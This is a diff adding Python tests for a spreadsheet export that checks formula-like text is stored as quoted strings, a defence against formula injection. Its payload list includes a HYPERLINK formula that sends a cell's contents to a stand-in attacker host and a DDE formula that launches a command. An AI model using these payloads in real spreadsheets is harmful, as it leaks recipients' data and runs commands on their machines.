@@ -27,3 +27,43 @@ def test_it_names_the_download_in_chinese():
     assert response["Content-Disposition"] == (
         "attachment; filename*=UTF-8''%E5%91%A8%E9%80%9A%E6%8A%A5.xlsx"
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&B2,"点此查看")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_text_that_looks_like_a_formula_is_written_as_quoted_text():
+    content = write_xlsx([Sheet("表", ["=标题"], [[text, 3, -4.5] for text in FORMULAS])])
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    header = sheet["A1"]
+    assert (header.value, header.data_type, header.quotePrefix) == ("=标题", "s", True)
+    for number, text in enumerate(FORMULAS, start=2):
+        cell = sheet.cell(row=number, column=1)
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+        # Numbers stay numbers, without the prefix.
+        assert sheet.cell(row=number, column=2).data_type == "n"
+        assert sheet.cell(row=number, column=3).value == -4.5
+        assert not sheet.cell(row=number, column=3).quotePrefix
+
+
+def test_plain_text_is_a_string_without_the_quote_prefix():
+    content = write_xlsx([Sheet("表", ["姓名"], [["张三"], ["1102"]])])
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    assert [(c.value, c.data_type, c.quotePrefix) for c in sheet["A"][1:]] == [
+        ("张三", "s", False),
+        ("1102", "s", False),
+    ]
+
+
+def test_control_characters_are_cleaned_not_a_crash():
+    content = write_xlsx([Sheet("表", ["说明"], [["第一行\x0b第二行\x01"]])])
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    assert sheet["A2"].value == "第一行\n第二行"
